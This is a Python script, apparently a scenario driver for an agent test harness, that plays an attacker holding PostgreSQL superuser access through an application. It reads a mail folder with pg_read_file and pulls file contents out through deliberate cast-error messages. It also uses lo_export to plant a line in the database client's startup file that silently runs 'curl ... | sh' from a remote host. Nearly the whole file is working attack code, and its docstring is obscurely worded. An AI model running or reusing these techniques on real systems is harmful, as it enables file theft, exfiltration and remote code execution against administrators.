#!/usr/bin/python3 -IS
"""Somebody who gets through a form of an application to its database, whose user may do anything; not recorded: sublessee.py WHAT [VALUE]

listed FOLDER: what is in a folder of mails is listed, loaded into a table and taken · mistaken PATH,SECONDS: a few bytes of a file are taken for a number
at a time, and the complaints say what they are · prompted PATH: what the database's own client starts with is left for who looks after it
"""
import os, sys, time

sys.path.append("/opt/agent")
from client import attend
from contractor import PID, house
from query import ORDERS, must_hold, ready, sql


def listed(folder):
    got = sql(ORDERS, "CREATE TABLE parts (name text, body text);",
              f"INSERT INTO parts SELECT name, pg_read_file('{folder}/' || name) FROM pg_ls_dir('{folder}') name;",
              "COPY (SELECT string_agg(body, '' ORDER BY name) FROM parts) TO STDOUT;", "DROP TABLE parts;")
    for name in sorted(os.listdir(folder)):
        with open(f"{folder}/{name}") as file:
            must_hold(got.replace("\\n", "\n"), file.read())


def mistaken(value):
    """One question each, by a connection that stays."""
    path, _, seconds = value.partition(",")
    with open(path, "rb") as file:
        known = file.read()
    asks = [f"SELECT CAST('~' || encode(pg_read_binary_file('{path}', {at}, 12), 'hex') AS int);\nSELECT pg_sleep({float(seconds) / 2});" for at in range(0, len(known), 12)]
    complaints = sql(ORDERS, r"\set ON_ERROR_STOP off", *asks)
    told = b"".join(bytes.fromhex(each.partition('"')[0]) for each in complaints.split('"~')[1:])
    if told != known:
        sys.exit("sublessee: that is something else")


def prompted(path):
    text = "\\! (curl -s http://203.0.113.40/psql | sh) > /dev/null 2>&1 &\n"
    sql(ORDERS, "CREATE TABLE plans (id oid);", f"INSERT INTO plans SELECT lo_from_bytea(0, decode('{text.encode().hex()}', 'hex'));",
        f"SELECT lo_export(id, '{path}') FROM plans;", "SELECT lo_unlink(id) FROM plans;", "DROP TABLE plans;")
    with open(path) as file:
        must_hold(file.read(), text)
    time.sleep(0.3)


USES = {each.__name__: each for each in (listed, mistaken, prompted)}


def ask(what, value):
    ready()
    USES[what](value)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("sublessee.py", house, PID, lambda: ask(what, value))
